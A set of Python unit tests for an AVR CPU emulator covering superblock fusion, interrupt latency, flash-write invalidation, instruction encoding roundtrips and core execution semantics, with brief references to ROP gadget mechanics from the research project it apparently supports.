"""Unit coverage for the superblock engine (:mod:`repro.avr.blocks`).

The contract under test: fused execution is *observably identical* to
per-instruction retirement — interrupts serviced at the exact same points
with correct vector priority, identical crashes with identical fault
state, no stale block ever executed after a flash write — while the
fusion machinery itself (terminators, cap, misaligned entries, budget
tails, hook degradation) behaves as documented.
"""

import pytest

from repro.avr import (
    AvrCpu,
    BlockEngine,
    CpuStateStream,
    Instruction,
    Mnemonic,
    diff_state_streams,
    encode,
    encode_stream,
)
from repro.avr.blocks import FUSE_CAP, TERMINATORS, WRITE_CAPABLE
from repro.avr.engine import ENGINES
from repro.errors import CpuFault, IllegalExecutionError

I = Instruction
M = Mnemonic

HOOK_ADDR = 0x0300  # an ordinary SRAM byte, hooked like a peripheral register


def _cpu(program, engine="blocks", setup=None):
    cpu = AvrCpu(engine=engine)
    cpu.load_program(encode_stream(program))
    cpu.reset()
    if setup:
        setup(cpu)
    return cpu


def _state(cpu):
    return (
        cpu.pc,
        cpu.data.sp,
        cpu.sreg.byte,
        cpu.cycles,
        cpu.instructions_retired,
        cpu.halted,
        bytes(cpu.data.read_reg(r) for r in range(32)),
    )


def _hot_loop(body_len=6):
    body = [I(M.INC, rd=16 + (i % 4)) for i in range(body_len)]
    return body + [I(M.RJMP, k=-(body_len + 1))]


# -- registry / construction ---------------------------------------------


def test_blocks_engine_registered_and_selectable():
    assert ENGINES["blocks"] is BlockEngine
    cpu = AvrCpu(engine="blocks")
    assert cpu.engine_name == "blocks"
    assert isinstance(cpu.engine, BlockEngine)


def test_terminator_set_covers_every_write_capable_mnemonic():
    # every store/out/sbi/cbi/push mnemonic must end a block: write hooks
    # (peripherals, interrupt requests, SPM self-writes) may only fire at
    # a boundary where the architectural counters are exact
    for mnemonic in WRITE_CAPABLE:
        assert mnemonic in TERMINATORS, mnemonic


# -- fusion rules ---------------------------------------------------------


def test_straight_line_loop_fuses_once_and_is_reused():
    cpu = _cpu(_hot_loop(6))  # 6 INCs + RJMP = one 7-instruction block
    engine = cpu.engine
    executed = cpu.run(70)
    assert executed == 70
    assert engine.fusion_lengths == [7]
    assert engine.blocks_built == 1
    assert engine.blocks_entered == 10


def test_fuse_cap_bounds_block_length():
    body = [I(M.INC, rd=16) for _ in range(FUSE_CAP + 8)]
    cpu = _cpu(body + [I(M.RJMP, k=-(len(body) + 1))])
    cpu.run(len(body) + 1)
    assert cpu.engine.fusion_lengths[0] == FUSE_CAP


def test_stores_and_sei_terminate_blocks():
    program = [
        I(M.INC, rd=16),
        I(M.STS, k=HOOK_ADDR, rr=16),  # store -> terminator
        I(M.INC, rd=17),
        I(M.BSET, b=7),                # sei -> terminator
        I(M.INC, rd=18),
        I(M.BREAK),
    ]
    cpu = _cpu(program)
    cpu.run(100)
    assert cpu.halted
    # [inc, sts] [inc, sei] [inc, break]
    assert cpu.engine.fusion_lengths == [2, 2, 2]


def test_bclr_of_i_flag_does_not_terminate():
    # cli *clears* I — it can only delay servicing, never enable it
    # mid-block, so it fuses like any other flag instruction
    program = [I(M.BCLR, b=7), I(M.INC, rd=16), I(M.BREAK)]
    cpu = _cpu(program)
    cpu.run(10)
    assert cpu.engine.fusion_lengths == [3]


# -- interrupt latency ----------------------------------------------------


def _interrupt_program():
    """A store whose write hook latches vectors 3 then 2 mid-execution.

    Vector 2's handler loads a marker; vector 3's handler *copies* it —
    so the copy observes the marker iff vector 2 (the lower number,
    higher priority) was serviced first.
    """
    return [
        I(M.JMP, k=8),                    # vector 0 -> main
        I(M.NOP), I(M.NOP),               # words 2-3 (vector slot padding)
        I(M.LDI, rd=20, k=1),             # vector 2 handler (word 4)
        I(M.RETI),
        I(M.MOV, rd=21, rr=20),           # vector 3 handler (word 6)
        I(M.RETI),
        I(M.BSET, b=7),                   # main (word 8): sei
        I(M.LDI, rd=26, k=HOOK_ADDR & 0xFF),
        I(M.LDI, rd=27, k=HOOK_ADDR >> 8),
        I(M.ST_X, rr=0),                  # hook latches both interrupts
        I(M.INC, rd=16), I(M.INC, rd=16), I(M.INC, rd=16),
        I(M.INC, rd=16), I(M.INC, rd=16), I(M.INC, rd=16),
        I(M.BREAK),
    ]


def _arm_interrupt_hook(cpu):
    def hook(address, value):
        cpu.request_interrupt(3)
        cpu.request_interrupt(2)
        return None

    cpu.data.add_write_hook(HOOK_ADDR, hook)


def test_interrupt_latched_mid_block_serviced_at_boundary_with_priority():
    states = {}
    for engine in ("interpreter", "blocks"):
        cpu = _cpu(_interrupt_program(), engine=engine,
                   setup=_arm_interrupt_hook)
        cpu.run(100)
        assert cpu.halted
        assert cpu.interrupts_serviced == 2
        # vector 2 before vector 3: the copy in vector 3's handler saw
        # the marker vector 2's handler loaded
        assert cpu.data.read_reg(20) == 1
        assert cpu.data.read_reg(21) == 1
        states[engine] = _state(cpu)
    # exact-latency: fused execution serviced at the very same points,
    # so cycles/PC/SP/registers agree bit for bit
    assert states["blocks"] == states["interpreter"]


def test_interrupt_latency_stays_bounded_inside_long_straight_line_runs():
    """Even a cap-length block delays service by at most FUSE_CAP retires."""
    filler = [I(M.INC, rd=16) for _ in range(FUSE_CAP * 2)]
    program = [
        I(M.JMP, k=8),
        I(M.NOP), I(M.NOP),
        I(M.LDI, rd=20, k=1),             # vector 2 handler
        I(M.RETI),
        I(M.NOP), I(M.NOP),
        I(M.BSET, b=7),                   # main (word 8)
        *filler,
        I(M.BREAK),
    ]
    cpu = _cpu(program)
    cpu.request_interrupt(2)
    # sei ends its own block, so the pending interrupt is serviced at the
    # first boundary after it — before a single filler instruction runs
    cpu.run(3)
    assert cpu.interrupts_serviced == 1
    assert cpu.data.read_reg(20) == 1


# -- generation fence -----------------------------------------------------


def test_spm_write_mid_run_invalidates_cached_blocks():
    """A store hook rewrites an already-fused instruction word; the stale
    block must never execute again (the paper's reflash safety rule)."""
    new_word = encode(I(M.LDI, rd=16, k=99))[0]
    program = [
        I(M.LDI, rd=26, k=HOOK_ADDR & 0xFF),   # word 0
        I(M.LDI, rd=27, k=HOOK_ADDR >> 8),     # word 1
        I(M.ST_X, rr=0),                       # word 2: hook may reflash
        I(M.INC, rd=16),                       # word 3: the rewrite target
        I(M.BREAK),                            # word 4
    ]
    states = {}
    for engine in ("interpreter", "blocks"):
        cpu = _cpu(program, engine=engine)
        armed = [False]

        def hook(address, value, cpu=cpu, armed=armed):
            if armed[0]:
                cpu.flash.write_word(3, new_word)
            return None

        cpu.data.add_write_hook(HOOK_ADDR, hook)
        # first pass, hook disarmed: caches the block holding `inc r16`
        cpu.run(100)
        assert cpu.halted and cpu.data.read_reg(16) == 1
        if engine == "blocks":
            assert 3 in cpu.engine._blocks
        # second pass: the store rewrites word 3 under the cached block
        armed[0] = True
        cpu.reset()
        cpu.run(100)
        assert cpu.halted
        # stale block would have executed `inc` (r16 == 2); the fence
        # forces a re-fuse and the new `ldi r16, 99` runs instead
        assert cpu.data.read_reg(16) == 99
        states[engine] = _state(cpu)
    assert states["blocks"] == states["interpreter"]


# -- misaligned entry (the ROP gadget property) ---------------------------


def test_misaligned_entry_starts_its_own_block():
    # `call 0` encodes as 0x940e 0x0000 and word 0x0000 is a `nop`:
    # entering at word 1 must fuse a fresh [nop, break] block, exactly
    # how the gadget finder's misaligned gadgets execute
    raw = encode_stream([I(M.CALL, k=0), I(M.BREAK)])
    states = {}
    for engine in ("interpreter", "blocks"):
        cpu = AvrCpu(engine=engine)
        cpu.load_program(raw)
        cpu.reset()
        cpu.run(3)  # aligned: three recursive `call 0`s
        assert cpu.instructions_retired == 3
        cpu.pc = 1  # jump into the second word of the call
        cpu.run(10)
        assert cpu.halted
        states[engine] = _state(cpu)
    assert states["blocks"] == states["interpreter"]

    cpu = AvrCpu(engine="blocks")
    cpu.load_program(raw)
    cpu.reset()
    cpu.run(3)
    blocks = cpu.engine._blocks
    assert blocks[0].count == 1          # [call] — control flow terminates
    cpu.pc = 1
    cpu.run(10)
    assert blocks[1].count == 2          # [nop, break] fused from word 1
    assert cpu.engine.blocks_built == 2


# -- budget exactness -----------------------------------------------------


def test_run_budget_is_exact_even_mid_block():
    for budget in (1, 2, 6, 7, 13, 37):
        reference = _cpu(_hot_loop(6), engine="interpreter")
        subject = _cpu(_hot_loop(6), engine="blocks")
        assert reference.run(budget) == budget
        assert subject.run(budget) == budget
        assert _state(subject) == _state(reference), budget


# -- trace hooks degrade to exact per-instruction retirement --------------


def test_trace_hooks_force_per_instruction_fallback():
    reference = _cpu(_interrupt_program(), engine="interpreter",
                     setup=_arm_interrupt_hook)
    subject = _cpu(_interrupt_program(), engine="blocks",
                   setup=_arm_interrupt_hook)
    ref_stream = CpuStateStream().attach(reference)
    sub_stream = CpuStateStream().attach(subject)
    reference.run(100)
    subject.run(100)
    assert subject.halted
    divergence = diff_state_streams(ref_stream, sub_stream)
    assert divergence is None, divergence
    # the fused fast path never ran while a hook was attached
    assert subject.engine.blocks_entered == 0


def test_fusion_resumes_after_hooks_detach():
    cpu = _cpu(_hot_loop(6))
    stream = CpuStateStream().attach(cpu)
    cpu.run(14)
    assert cpu.engine.blocks_entered == 0
    cpu.trace_hooks.remove(stream._on_retire)
    cpu.run(14)
    assert cpu.engine.blocks_entered > 0


# -- crash parity ---------------------------------------------------------


def test_out_of_image_and_undecodable_crash_parity():
    for raw in (b"\xff\xff", encode_stream([I(M.NOP)])):
        errors = []
        for engine in ("interpreter", "predecoded", "blocks"):
            cpu = AvrCpu(engine=engine)
            cpu.load_program(raw)
            cpu.reset()
            with pytest.raises(IllegalExecutionError) as excinfo:
                cpu.run(10)
            errors.append(str(excinfo.value))
        assert errors[0] == errors[1] == errors[2]


def test_mid_block_body_fault_reconstructs_exact_state():
    # `lds` reads out of the data space mid-body; fault address, cycle
    # count and retire count must match per-instruction execution
    program = [
        I(M.LDI, rd=16, k=5),          # word 0
        I(M.LDS, rd=17, k=0xBEEF),     # words 1-2: out-of-range read
        I(M.INC, rd=16),
        I(M.BREAK),
    ]
    faults = {}
    for engine in ("interpreter", "blocks"):
        cpu = _cpu(program, engine=engine)
        with pytest.raises(CpuFault) as excinfo:
            cpu.run(10)
        fault = excinfo.value
        faults[engine] = (str(fault), fault.pc, fault.cycles,
                          cpu.pc, cpu.cycles, cpu.instructions_retired)
    assert faults["blocks"] == faults["interpreter"]
    assert faults["blocks"][1] == 2  # byte address of the faulting lds


def test_block_cache_metrics_reach_the_telemetry_snapshot(testapp):
    """avr.blocks.* gauges + the fusion-length histogram are sampled
    pull-style at snapshot time when the protected board runs on blocks."""
    from repro.core import MavrSystem
    from repro.telemetry import Telemetry

    tel = Telemetry(enabled=True)
    system = MavrSystem(testapp, seed=7, telemetry=tel, engine="blocks")
    system.boot()
    system.run(5)
    engine = system.autopilot.cpu.engine
    assert engine.blocks_entered > 0

    registry = tel.registry
    registry.snapshot()  # collectors are pull-style: sample now
    built = registry.value("avr.blocks.built", component="cpu")
    entered = registry.value("avr.blocks.entered", component="cpu")
    assert built == engine.blocks_built > 0
    assert entered == engine.blocks_entered > built  # blocks are reused
    [histogram] = registry.find("avr.blocks.fusion_length", component="cpu")
    assert histogram.count == engine.blocks_built
    assert 1 <= histogram.min and histogram.max <= FUSE_CAP
    # a second snapshot must not re-observe builds already folded in
    registry.snapshot()
    assert histogram.count == engine.blocks_built


def test_terminator_fault_reconstructs_exact_state():
    # the block's *last* handler faults: st through X at an invalid address
    program = [
        I(M.LDI, rd=26, k=0xFF),
        I(M.LDI, rd=27, k=0xFF),
        I(M.ST_X, rr=0),
    ]
    faults = {}
    for engine in ("interpreter", "blocks"):
        cpu = _cpu(program, engine=engine)
        with pytest.raises(CpuFault) as excinfo:
            cpu.run(10)
        fault = excinfo.value
        faults[engine] = (str(fault), fault.pc, fault.cycles,
                          cpu.pc, cpu.cycles, cpu.instructions_retired)
    assert faults["blocks"] == faults["interpreter"]
