"""Encoder/decoder roundtrip tests, including the hypothesis property
``decode(encode(insn)) == insn`` over the full supported ISA subset."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.avr import Instruction, Mnemonic, decode, decode_at, encode, encode_bytes
from repro.avr.decoder import needs_second_word
from repro.errors import DecodeError, EncodeError

# -- strategies --------------------------------------------------------

reg = st.integers(0, 31)
reg_high = st.integers(16, 31)
reg_even = st.integers(0, 15).map(lambda i: i * 2)
imm8 = st.integers(0, 255)
io_addr = st.integers(0, 63)
io_addr_low = st.integers(0, 31)
bit3 = st.integers(0, 7)
disp6 = st.integers(0, 63)
addr16 = st.integers(0, 0xFFFF)
addr22 = st.integers(0, (1 << 22) - 1)
rel12 = st.integers(-2048, 2047)
rel7 = st.integers(-64, 63)

_RR_MNEMS = [
    Mnemonic.ADD, Mnemonic.ADC, Mnemonic.SUB, Mnemonic.SBC, Mnemonic.AND,
    Mnemonic.OR, Mnemonic.EOR, Mnemonic.MOV, Mnemonic.CP, Mnemonic.CPC,
    Mnemonic.CPSE,
]
_IMM_MNEMS = [
    Mnemonic.SUBI, Mnemonic.SBCI, Mnemonic.ANDI, Mnemonic.ORI,
    Mnemonic.CPI, Mnemonic.LDI,
]
_ONE_OP_MNEMS = [
    Mnemonic.COM, Mnemonic.NEG, Mnemonic.INC, Mnemonic.DEC, Mnemonic.SWAP,
    Mnemonic.LSR, Mnemonic.ASR, Mnemonic.ROR,
]
_FIXED_MNEMS = [
    Mnemonic.NOP, Mnemonic.RET, Mnemonic.RETI, Mnemonic.IJMP, Mnemonic.ICALL,
    Mnemonic.WDR, Mnemonic.SLEEP, Mnemonic.BREAK, Mnemonic.LPM_R0,
]
_LD_MNEMS = [
    Mnemonic.LD_X, Mnemonic.LD_X_INC, Mnemonic.LD_X_DEC, Mnemonic.LD_Y_INC,
    Mnemonic.LD_Y_DEC, Mnemonic.LD_Z_INC, Mnemonic.LD_Z_DEC, Mnemonic.POP,
    Mnemonic.LPM, Mnemonic.LPM_INC,
]
_ST_MNEMS = [
    Mnemonic.ST_X, Mnemonic.ST_X_INC, Mnemonic.ST_X_DEC, Mnemonic.ST_Y_INC,
    Mnemonic.ST_Y_DEC, Mnemonic.ST_Z_INC, Mnemonic.ST_Z_DEC, Mnemonic.PUSH,
]


def _rr(m):
    return st.builds(lambda rd, rr: Instruction(m, rd=rd, rr=rr), reg, reg)


def _imm(m):
    return st.builds(lambda rd, k: Instruction(m, rd=rd, k=k), reg_high, imm8)


instructions = st.one_of(
    st.sampled_from(_FIXED_MNEMS).map(Instruction),
    st.sampled_from(_RR_MNEMS).flatmap(_rr),
    st.builds(lambda rd, rr: Instruction(Mnemonic.MUL, rd=rd, rr=rr), reg, reg),
    st.builds(lambda rd, rr: Instruction(Mnemonic.MULS, rd=rd, rr=rr), reg_high, reg_high),
    st.builds(
        lambda rd, rr: Instruction(Mnemonic.MULSU, rd=rd, rr=rr),
        st.integers(16, 23), st.integers(16, 23),
    ),
    st.sampled_from(_IMM_MNEMS).flatmap(_imm),
    st.builds(lambda rd, rr: Instruction(Mnemonic.MOVW, rd=rd, rr=rr), reg_even, reg_even),
    st.sampled_from(_ONE_OP_MNEMS).flatmap(
        lambda m: st.builds(lambda rd: Instruction(m, rd=rd), reg)
    ),
    st.sampled_from(_LD_MNEMS).flatmap(
        lambda m: st.builds(lambda rd: Instruction(m, rd=rd), reg)
    ),
    st.sampled_from(_ST_MNEMS).flatmap(
        lambda m: st.builds(lambda rr: Instruction(m, rr=rr), reg)
    ),
    st.builds(lambda rd, q: Instruction(Mnemonic.LDD_Y, rd=rd, q=q), reg, disp6),
    st.builds(lambda rd, q: Instruction(Mnemonic.LDD_Z, rd=rd, q=q), reg, disp6),
    st.builds(lambda rr, q: Instruction(Mnemonic.STD_Y, rr=rr, q=q), reg, disp6),
    st.builds(lambda rr, q: Instruction(Mnemonic.STD_Z, rr=rr, q=q), reg, disp6),
    st.builds(lambda rd, k: Instruction(Mnemonic.LDS, rd=rd, k=k), reg, addr16),
    st.builds(lambda rr, k: Instruction(Mnemonic.STS, rr=rr, k=k), reg, addr16),
    st.builds(lambda k: Instruction(Mnemonic.JMP, k=k), addr22),
    st.builds(lambda k: Instruction(Mnemonic.CALL, k=k), addr22),
    st.builds(lambda k: Instruction(Mnemonic.RJMP, k=k), rel12),
    st.builds(lambda k: Instruction(Mnemonic.RCALL, k=k), rel12),
    st.builds(lambda k, b: Instruction(Mnemonic.BRBS, k=k, b=b), rel7, bit3),
    st.builds(lambda k, b: Instruction(Mnemonic.BRBC, k=k, b=b), rel7, bit3),
    st.builds(
        lambda rd, k: Instruction(Mnemonic.ADIW, rd=rd, k=k),
        st.sampled_from([24, 26, 28, 30]), disp6,
    ),
    st.builds(
        lambda rd, k: Instruction(Mnemonic.SBIW, rd=rd, k=k),
        st.sampled_from([24, 26, 28, 30]), disp6,
    ),
    st.builds(lambda rd, a: Instruction(Mnemonic.IN, rd=rd, a=a), reg, io_addr),
    st.builds(lambda rr, a: Instruction(Mnemonic.OUT, rr=rr, a=a), reg, io_addr),
    st.sampled_from([Mnemonic.SBI, Mnemonic.CBI, Mnemonic.SBIC, Mnemonic.SBIS]).flatmap(
        lambda m: st.builds(lambda a, b: Instruction(m, a=a, b=b), io_addr_low, bit3)
    ),
    st.sampled_from([Mnemonic.BLD, Mnemonic.BST, Mnemonic.SBRC, Mnemonic.SBRS]).flatmap(
        lambda m: st.builds(lambda rd, b: Instruction(m, rd=rd, b=b), reg, bit3)
    ),
    st.builds(lambda b: Instruction(Mnemonic.BSET, b=b), bit3),
    st.builds(lambda b: Instruction(Mnemonic.BCLR, b=b), bit3),
)


@settings(max_examples=2000, deadline=None)
@given(instructions)
def test_roundtrip(insn):
    words = encode(insn)
    decoded = decode(words[0], words[1] if len(words) > 1 else None)
    assert decoded == insn


@settings(max_examples=500, deadline=None)
@given(instructions)
def test_encode_bytes_matches_words(insn):
    raw = encode_bytes(insn)
    assert len(raw) == insn.size_bytes
    decoded, size = decode_at(raw, 0)
    assert decoded == insn
    assert size == len(raw)


# -- directed encoding checks against the datasheet --------------------

def test_known_encodings():
    assert encode(Instruction(Mnemonic.RET)) == [0x9508]
    assert encode(Instruction(Mnemonic.NOP)) == [0x0000]
    # ldi r16, 0xFF -> 0xEF0F
    assert encode(Instruction(Mnemonic.LDI, rd=16, k=0xFF)) == [0xEF0F]
    # out 0x3e, r29  (SPH write used by stk_move)
    word = encode(Instruction(Mnemonic.OUT, rr=29, a=0x3E))[0]
    assert decode(word) == Instruction(Mnemonic.OUT, rr=29, a=0x3E)
    # std Y+1, r5 used by write_mem_gadget
    word = encode(Instruction(Mnemonic.STD_Y, rr=5, q=1))[0]
    assert decode(word) == Instruction(Mnemonic.STD_Y, rr=5, q=1)
    # pop r28 -> 0x91CF
    assert encode(Instruction(Mnemonic.POP, rd=28)) == [0x91CF]
    # push r28 -> 0x93CF
    assert encode(Instruction(Mnemonic.PUSH, rr=28)) == [0x93CF]


def test_jmp_call_wide_address():
    target = 0x1B284 // 2  # write_mem_gadget byte address from the paper
    words = encode(Instruction(Mnemonic.CALL, k=target))
    assert len(words) == 2
    assert needs_second_word(words[0])
    assert decode(words[0], words[1]).k == target


def test_two_word_size():
    assert Instruction(Mnemonic.JMP, k=0).size_words == 2
    assert Instruction(Mnemonic.LDS, rd=0, k=0).size_words == 2
    assert Instruction(Mnemonic.ADD, rd=0, rr=0).size_words == 1


# -- error handling -----------------------------------------------------

def test_encode_rejects_bad_operands():
    with pytest.raises(EncodeError):
        encode(Instruction(Mnemonic.LDI, rd=5, k=1))  # rd must be >= 16
    with pytest.raises(EncodeError):
        encode(Instruction(Mnemonic.RJMP, k=5000))  # displacement too large
    with pytest.raises(EncodeError):
        encode(Instruction(Mnemonic.ADIW, rd=25, k=1))  # bad pair
    with pytest.raises(EncodeError):
        encode(Instruction(Mnemonic.MOVW, rd=1, rr=2))  # odd register
    with pytest.raises(EncodeError):
        encode(Instruction(Mnemonic.LDI, rd=16))  # missing immediate


def test_decode_rejects_garbage():
    with pytest.raises(DecodeError):
        decode(0xFFFF)  # erased flash
    with pytest.raises(DecodeError):
        decode(0x9409 + 1 if False else 0x940B)  # reserved hole


def test_decode_truncated_two_word():
    words = encode(Instruction(Mnemonic.JMP, k=0x100))
    with pytest.raises(DecodeError):
        decode(words[0], None)
