"""Execution semantics of the AVR core: arithmetic flags, control flow,
stack discipline with 3-byte return addresses, and crash behaviour."""

import pytest

from repro.avr import (
    AvrCpu,
    Instruction,
    Mnemonic,
    RAMEND,
    encode_stream,
)
from repro.avr.iospace import SPH, SPL
from repro.errors import CpuFault, IllegalExecutionError

I = Instruction
M = Mnemonic


def run_program(insns, max_instructions=10_000, setup=None):
    cpu = AvrCpu()
    cpu.load_program(encode_stream(list(insns) + [I(M.BREAK)]))
    cpu.reset()
    if setup:
        setup(cpu)
    cpu.run(max_instructions)
    return cpu


def test_reset_state():
    cpu = AvrCpu()
    cpu.load_program(b"\x00\x00")
    cpu.reset()
    assert cpu.pc == 0
    assert cpu.data.sp == RAMEND
    assert not cpu.halted


def test_ldi_mov_add_flags():
    cpu = run_program([
        I(M.LDI, rd=16, k=200),
        I(M.LDI, rd=17, k=100),
        I(M.ADD, rd=16, rr=17),
    ])
    assert cpu.data.read_reg(16) == (200 + 100) & 0xFF
    assert cpu.sreg.c  # 300 carries out


def test_adc_chain_16bit():
    # 0x00FF + 0x0001 across two bytes = 0x0100
    cpu = run_program([
        I(M.LDI, rd=16, k=0xFF), I(M.LDI, rd=17, k=0x00),
        I(M.LDI, rd=18, k=0x01), I(M.LDI, rd=19, k=0x00),
        I(M.ADD, rd=16, rr=18),
        I(M.ADC, rd=17, rr=19),
    ])
    assert cpu.data.read_reg(16) == 0x00
    assert cpu.data.read_reg(17) == 0x01


def test_sub_and_zero_flag():
    cpu = run_program([
        I(M.LDI, rd=16, k=5),
        I(M.SUBI, rd=16, k=5),
    ])
    assert cpu.data.read_reg(16) == 0
    assert cpu.sreg.z


def test_cpse_skips_two_word_instruction():
    cpu = run_program([
        I(M.LDI, rd=16, k=1),
        I(M.LDI, rd=17, k=1),
        I(M.CPSE, rd=16, rr=17),
        I(M.STS, rr=16, k=0x400),  # skipped (2 words)
        I(M.LDI, rd=20, k=9),
    ])
    assert cpu.data.read(0x400) == 0
    assert cpu.data.read_reg(20) == 9


def test_branch_taken_and_not_taken():
    # brne loop: decrement r16 from 3 to 0
    code = [
        I(M.LDI, rd=16, k=3),
        I(M.LDI, rd=17, k=0),
        # loop:
        I(M.INC, rd=17),
        I(M.DEC, rd=16),
        I(M.BRBC, b=1, k=-3),  # brne back to loop
    ]
    cpu = run_program(code)
    assert cpu.data.read_reg(16) == 0
    assert cpu.data.read_reg(17) == 3


def test_call_pushes_three_bytes_big_endian_in_memory():
    # call to a function that just returns; inspect stack bytes mid-call
    code = encode_stream([
        I(M.CALL, k=4),       # words 0..1
        I(M.BREAK),           # word 2
        I(M.NOP),             # word 3
        I(M.BREAK),           # word 4: "function" halts so we can inspect
    ])
    cpu = AvrCpu()
    cpu.load_program(code)
    cpu.reset()
    cpu.run(10)
    # return address = word 2, pushed as 3 bytes, high at lowest address
    sp = cpu.data.sp
    assert sp == RAMEND - 3
    assert cpu.data.read(sp + 1) == 0x00  # high
    assert cpu.data.read(sp + 2) == 0x00  # mid
    assert cpu.data.read(sp + 3) == 0x02  # low (word addr 2)


def test_call_ret_roundtrip():
    code = encode_stream([
        I(M.LDI, rd=16, k=0),
        I(M.CALL, k=5),
        I(M.BREAK),
        I(M.NOP),
        I(M.INC, rd=16),       # word 5: function body
        I(M.RET),
    ])
    cpu = AvrCpu()
    cpu.load_program(code)
    cpu.reset()
    cpu.run(20)
    assert cpu.data.read_reg(16) == 1
    assert cpu.data.sp == RAMEND  # stack balanced


def test_rcall_and_icall():
    code = encode_stream([
        I(M.LDI, rd=30, k=7), I(M.LDI, rd=31, k=0),  # Z = word 7
        I(M.ICALL),
        I(M.RCALL, k=3),   # from word 4 to word 7
        I(M.BREAK),
        I(M.NOP), I(M.NOP),
        I(M.INC, rd=20),   # word 7
        I(M.RET),
    ])
    cpu = AvrCpu()
    cpu.load_program(code)
    cpu.reset()
    cpu.run(30)
    assert cpu.data.read_reg(20) == 2  # called twice


def test_push_pop():
    cpu = run_program([
        I(M.LDI, rd=16, k=0xAB),
        I(M.PUSH, rr=16),
        I(M.LDI, rd=16, k=0),
        I(M.POP, rd=17),
    ])
    assert cpu.data.read_reg(17) == 0xAB
    assert cpu.data.sp == RAMEND


def test_out_to_sp_moves_stack():
    """The stk_move gadget mechanism: out 0x3e/0x3d rewrites SP."""
    cpu = run_program([
        I(M.LDI, rd=28, k=0x34),
        I(M.LDI, rd=29, k=0x12),
        I(M.OUT, a=SPH, rr=29),
        I(M.OUT, a=SPL, rr=28),
    ])
    assert cpu.data.sp == 0x1234


def test_memory_mapped_registers():
    """Storing to data address 5 IS writing r5 (write_mem_gadget relies on it)."""
    cpu = run_program([
        I(M.LDI, rd=16, k=0x77),
        I(M.STS, rr=16, k=0x0005),  # data address of r5
    ])
    assert cpu.data.read_reg(5) == 0x77


def test_std_ldd_displacement():
    cpu = run_program([
        I(M.LDI, rd=28, k=0x00), I(M.LDI, rd=29, k=0x03),  # Y = 0x300
        I(M.LDI, rd=16, k=0x11),
        I(M.MOV, rd=5, rr=16),
        I(M.STD_Y, rr=5, q=1),
        I(M.LDD_Y, rd=6, q=1),
    ])
    assert cpu.data.read(0x301) == 0x11
    assert cpu.data.read_reg(6) == 0x11


def test_ld_st_post_increment():
    cpu = run_program([
        I(M.LDI, rd=26, k=0x00), I(M.LDI, rd=27, k=0x03),  # X = 0x300
        I(M.LDI, rd=16, k=1),
        I(M.ST_X_INC, rr=16),
        I(M.LDI, rd=16, k=2),
        I(M.ST_X_INC, rr=16),
    ])
    assert cpu.data.read(0x300) == 1
    assert cpu.data.read(0x301) == 2
    assert cpu.data.read_reg_pair(26) == 0x302


def test_adiw_sbiw():
    cpu = run_program([
        I(M.LDI, rd=24, k=0xFF), I(M.LDI, rd=25, k=0x00),
        I(M.ADIW, rd=24, k=2),
    ])
    assert cpu.data.read_reg_pair(24) == 0x101


def test_lpm_reads_flash():
    code = encode_stream([
        I(M.LDI, rd=30, k=0), I(M.LDI, rd=31, k=0),
        I(M.LPM, rd=16),
        I(M.BREAK),
    ])
    cpu = AvrCpu()
    cpu.load_program(code)
    cpu.reset()
    cpu.run(10)
    assert cpu.data.read_reg(16) == code[0]


def test_sbi_cbi_sbic_sbis():
    cpu = run_program([
        I(M.SBI, a=0x05, b=3),
        I(M.SBIS, a=0x05, b=3),   # skip next (taken)
        I(M.LDI, rd=16, k=0xEE),  # skipped
        I(M.CBI, a=0x05, b=3),
        I(M.SBIC, a=0x05, b=3),   # skip next (taken: bit clear)
        I(M.LDI, rd=17, k=0xEE),  # skipped
    ])
    assert cpu.data.read_reg(16) == 0
    assert cpu.data.read_reg(17) == 0


def test_bst_bld_sbrs():
    cpu = run_program([
        I(M.LDI, rd=16, k=0b1000),
        I(M.BST, rd=16, b=3),
        I(M.BLD, rd=17, b=0),
        I(M.SBRS, rd=17, b=0),
        I(M.LDI, rd=18, k=0xEE),  # skipped
    ])
    assert cpu.data.read_reg(17) == 1
    assert cpu.data.read_reg(18) == 0


def test_sreg_io_read_write():
    cpu = run_program([
        I(M.LDI, rd=16, k=0x03),  # C and Z
        I(M.OUT, a=0x3F, rr=16),
        I(M.IN, rd=17, a=0x3F),
    ])
    assert cpu.data.read_reg(17) == 0x03
    assert cpu.sreg.c and cpu.sreg.z


def test_execute_beyond_image_is_crash():
    cpu = AvrCpu()
    cpu.load_program(encode_stream([I(M.NOP)]))
    cpu.reset()
    cpu.step()
    with pytest.raises(IllegalExecutionError):
        cpu.step()


def test_undecodable_word_is_crash():
    cpu = AvrCpu()
    cpu.load_program(b"\xff\xff")
    cpu.reset()
    with pytest.raises(IllegalExecutionError):
        cpu.step()


def test_step_after_halt_faults():
    cpu = AvrCpu()
    cpu.load_program(encode_stream([I(M.BREAK)]))
    cpu.reset()
    cpu.run(5)
    assert cpu.halted
    with pytest.raises(CpuFault):
        cpu.step()


def test_cycle_accounting_progresses():
    cpu = run_program([I(M.LDI, rd=16, k=1), I(M.CALL, k=3), I(M.RET)][:1])
    assert cpu.cycles >= 1
    assert cpu.elapsed_seconds > 0


def test_ijmp_uses_z_word_address():
    code = encode_stream([
        I(M.LDI, rd=30, k=4), I(M.LDI, rd=31, k=0),
        I(M.IJMP),
        I(M.BREAK),                 # word 3: skipped
        I(M.LDI, rd=16, k=0x5A),    # word 4
        I(M.BREAK),
    ])
    cpu = AvrCpu()
    cpu.load_program(code)
    cpu.reset()
    cpu.run(10)
    assert cpu.data.read_reg(16) == 0x5A
