"""MUL/MULS/MULSU semantics (result in r1:r0, C = bit 15, Z)."""

from hypothesis import given
from hypothesis import strategies as st

from repro.avr import AvrCpu, Instruction, Mnemonic, encode_stream

I = Instruction
M = Mnemonic

byte = st.integers(0, 255)


def run_mul(mnemonic, a, b, rd=16, rr=17):
    cpu = AvrCpu()
    cpu.load_program(encode_stream([I(mnemonic, rd=rd, rr=rr), I(M.BREAK)]))
    cpu.reset()
    cpu.data.write_reg(rd, a)
    cpu.data.write_reg(rr, b)
    cpu.run(5)
    return cpu


@given(byte, byte)
def test_mul_unsigned(a, b):
    cpu = run_mul(M.MUL, a, b)
    product = a * b
    assert cpu.data.read_reg(0) == product & 0xFF
    assert cpu.data.read_reg(1) == (product >> 8) & 0xFF
    assert cpu.sreg.c == bool(product & 0x8000)
    assert cpu.sreg.z == (product == 0)


@given(byte, byte)
def test_muls_signed(a, b):
    cpu = run_mul(M.MULS, a, b)
    sa = a - 0x100 if a & 0x80 else a
    sb = b - 0x100 if b & 0x80 else b
    product = (sa * sb) & 0xFFFF
    assert cpu.data.read_reg(0) == product & 0xFF
